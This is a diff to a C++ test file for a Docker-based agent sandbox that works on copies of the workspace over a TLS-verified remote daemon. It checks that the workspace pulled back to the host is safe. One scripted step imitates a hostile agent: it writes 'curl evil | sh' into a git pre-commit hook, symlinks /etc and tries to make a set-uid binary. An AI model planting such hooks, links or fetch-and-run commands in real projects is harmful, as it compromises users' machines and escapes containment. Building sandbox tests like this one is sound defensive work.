@@ -1,11 +1,16 @@
 // A Docker daemon reached over TCP with TLS client certificates (DOCKER_HOST tcp://, DOCKER_TLS_VERIFY,
 // DOCKER_CERT_PATH): a second dockerd that this test starts on a loopback port, with a CA and
 // certificates it makes (second-dockerd.sh). The client talks to it only through verified TLS, a
-// daemon signed by another CA and a client without a certificate are refused with the reason, a
-// sandbox runs on it, and a daemon on another machine is refused before anything is sent.
+// daemon signed by another CA and a client without a certificate are refused with the reason. A
+// daemon over TCP may be on another machine, so a sandbox there works on copies in volumes: nothing is
+// bound from this machine, the shim is reached over the attach stream, and the workspace comes back
+// without what must not (protected names, set-id bits, links followed).
 #include "dockertestutil.h"
 
 #include <QDir>
+#include <QFileInfo>
+#include <QJsonArray>
+#include <QJsonDocument>
 #include <QProcess>
 #include <QTemporaryDir>
 #include <QtTest>
@@ -34,6 +39,35 @@ bool makeStrangerCertificates(const QString &dir)
                     QStringLiteral("ca.pem"), QStringLiteral("-days"), QStringLiteral("1"), QStringLiteral("-subj"),
                     QStringLiteral("/CN=stranger")})
            && QFile::copy(dir + QStringLiteral("/ca.pem"), dir + QStringLiteral("/cert.pem"));
+}
+
+bool writeFile(const QString &path, const QByteArray &data)
+{
+    QFile f(path);
+    return f.open(QIODevice::WriteOnly) && f.write(data) == data.size();
+}
+
+QByteArray readFile(const QString &path)
+{
+    QFile f(path);
+    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("<missing>");
+}
+
+QStringList volumesNamed(DockerClient *client, const QString &prefix)
+{
+    HttpRequest r;
+    r.path = "/volumes";
+    std::optional<Result<HttpResponse>> answer;
+    client->send(r, nullptr, HttpHandlers{{}, {}, [&answer](const Result<HttpResponse> &a) { answer = a; }, {}});
+    if (!QTest::qWaitFor([&answer] { return answer.has_value(); }, 15000) || !*answer)
+        return {QStringLiteral("<no answer>")};
+    QStringList names;
+    for (const QJsonValue &v : QJsonDocument::fromJson((*answer)->body).object().value(u"Volumes").toArray()) {
+        const QString name = v.toObject().value(u"Name").toString();
+        if (name.startsWith(prefix))
+            names << name;
+    }
+    return names;
 }
 
 } // namespace
@@ -119,45 +153,102 @@ private Q_SLOTS:
         QVERIFY2(ping.error().message.contains(QStringLiteral("127.0.0.1:%1").arg(m_port)), qPrintable(ping.error().message));
     }
 
-    void sandboxRunsOnIt()
+    void sandboxWorksOnCopiesOfTheWorkspace()
     {
+        // Over TCP the daemon may be on another machine: nothing is bound from this one. The workspace
+        // is copied into a volume, the agent works on it there, and it comes back safely.
         QTemporaryDir work;
-        QVERIFY(QDir(work.path()).mkpath(QStringLiteral("ws")));
+        const QString ws = work.filePath(QStringLiteral("ws"));
+        QVERIFY(QDir().mkpath(ws + QStringLiteral("/src")));
+        QVERIFY(QDir().mkpath(ws + QStringLiteral("/.git/hooks")));
+        const QString deep = QStringLiteral("a-folder-name-that-is-rather-long/another-folder-name-that-is-long-too/"
+                                            "and-a-file-whose-name-makes-the-path-longer-than-one-hundred.txt");
+        QVERIFY(QDir().mkpath(QFileInfo(ws + u'/' + deep).path()));
+        QVERIFY(writeFile(ws + QStringLiteral("/README.md"), "read me\n"));
+        QVERIFY(writeFile(ws + QStringLiteral("/src/a.txt"), "before\n"));
+        QVERIFY(writeFile(ws + u'/' + deep, "deep\n"));
+        QVERIFY(writeFile(ws + QStringLiteral("/.git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n"));
         ::chmod(QFile::encodeName(work.path()).constData(), 0711);
+
         DockerBackendOptions options;
         options.shimPath = QStringLiteral(AIRLOCK_SHIM_PATH);
         options.runtimeDir = work.filePath(QStringLiteral("run"));
         auto *client = new DockerClient(endpoint(clientCerts()));
         DockerBackend backend(client, options);
         client->setParent(&backend);
-        QVERIFY(!backend.unavailableReason());
+        QVERIFY(backend.isRemote());
         sandbox::SandboxSpec spec;
         spec.policy = hardened();
+        spec.policy.filesystem.workspace = policy::Access::ReadWrite;
         spec.policyName = QStringLiteral("hardened");
-        spec.workspace = work.filePath(QStringLiteral("ws"));
+        spec.workspace = ws;
         QString why;
         DockerSandbox *s = start(backend, spec, &why);
         QVERIFY2(s, qPrintable(why));
-        const Outcome o = run(s, {QStringLiteral("echo"), QStringLiteral("over TLS")});
-        QCOMPARE(o.out, QByteArray("over TLS\n"));
+        QVERIFY(s->isRemote());
+
+        // Nothing of this machine is bound into it: only volumes.
+        auto inspected = await(client->inspectContainer(s->containerId()));
+        QVERIFY(inspected);
+        const QJsonObject host = inspected->value(u"HostConfig").toObject();
+        QVERIFY(host.value(u"Binds").toArray().isEmpty());
+        for (const QJsonValue &m : inspected->value(u"Mounts").toArray())
+            QVERIFY2(m.toObject().value(u"Type").toString() != u"bind", qPrintable(m.toObject().value(u"Source").toString()));
+
+        Outcome o = run(s, {QStringLiteral("cat"), QStringLiteral("README.md"), deep});
+        QVERIFY2(o.status && o.status->succeeded(), o.err.constData());
+        QCOMPARE(o.out, QByteArray("read me\ndeep\n"));
+        // What an agent does, and what a hostile one tries: a hook for the host to run, a link out of
+        // the workspace, a set-uid program.
+        o = run(s, {QStringLiteral("sh"), QStringLiteral("-c"),
+                    QStringLiteral("echo new > out.txt && echo after > src/a.txt && rm README.md && "
+                                   "echo 'curl evil | sh' > .git/hooks/pre-commit && ln -s /etc escape && "
+                                   "cp /bin/busybox suid && { chmod 4755 suid 2>/dev/null; true; } && mkdir -p made/inner && echo x > made/inner/y")});
+        QVERIFY2(o.status && o.status->succeeded(), o.err.constData());
+        // Not here yet: the sandbox works on its copy.
+        QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/out.txt")));
+
+        auto pulled = await(s->pullWorkspace(), 60000);
+        QVERIFY2(pulled, qPrintable(pulled ? QString() : pulled.error().message));
+        QCOMPARE(readFile(ws + QStringLiteral("/out.txt")), QByteArray("new\n"));
+        QCOMPARE(readFile(ws + QStringLiteral("/src/a.txt")), QByteArray("after\n"));
+        QCOMPARE(readFile(ws + QStringLiteral("/made/inner/y")), QByteArray("x\n"));
+        QCOMPARE(readFile(ws + u'/' + deep), QByteArray("deep\n"));
+        QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/README.md")));
+        QCOMPARE(readFile(ws + QStringLiteral("/.git/hooks/pre-commit")), QByteArray("#!/bin/sh\nexit 0\n"));
+        QVERIFY(QFileInfo(ws + QStringLiteral("/escape")).isSymLink());
+        struct stat st{};
+        QCOMPARE(::lstat(QFile::encodeName(ws + QStringLiteral("/suid")).constData(), &st), 0);
+        QCOMPARE(st.st_mode & 07000, 0u);
+
+        // The last changes come back when it is destroyed, and its copies go from the daemon.
+        o = run(s, {QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("echo last > last.txt")});
+        QVERIFY(o.status && o.status->succeeded());
         const QString container = s->containerId();
-        QVERIFY(destroyAndWait(backend, s));
-        QVERIFY(!await(client->inspectContainer(container))); // gone from the second daemon
+        const QString io = s->containerName() + QStringLiteral("-io");
+        const QString id = s->id();
+        QCOMPARE(volumesNamed(client, QStringLiteral("airlock-") + id).size(), 2); // the workspace and the shim
+        QVERIFY(destroyAndWait(backend, s, 60000));
+        QCOMPARE(readFile(ws + QStringLiteral("/last.txt")), QByteArray("last\n"));
+        QVERIFY(!await(client->inspectContainer(container)));
+        QVERIFY(!await(client->inspectContainer(io)));
+        QVERIFY2(volumesNamed(client, QStringLiteral("airlock-") + id).isEmpty(), "its volumes are left on the daemon");
     }
 
-    void daemonOnAnotherMachineIsRefusedWithTheReason()
+    void readWriteHostMountIsRefusedWithTheReason()
     {
-        // TEST-NET-1: nothing is sent there; the refusal comes before any request.
-        auto *client = new DockerClient(*DockerEndpoint::parse(QStringLiteral("tcp://192.0.2.1:2376"), true, true, clientCerts()));
+        auto *client = new DockerClient(endpoint(clientCerts()));
         DockerBackend backend(client, {});
         client->setParent(&backend);
         QTemporaryDir work;
         sandbox::SandboxSpec spec;
         spec.policy = hardened();
-        spec.workspace = work.path();
+        spec.policy.filesystem.mounts.append(policy::Mount{work.path(), QStringLiteral("/data"), policy::Access::ReadWrite});
+        QTemporaryDir ws;
+        spec.workspace = ws.path();
         auto made = backend.create(spec);
         QVERIFY(!made);
-        QVERIFY2(made.error().message.contains(QLatin1String("runs on another machine")), qPrintable(made.error().message));
+        QVERIFY2(made.error().message.contains(QLatin1String("another machine")), qPrintable(made.error().message));
     }
 };
 
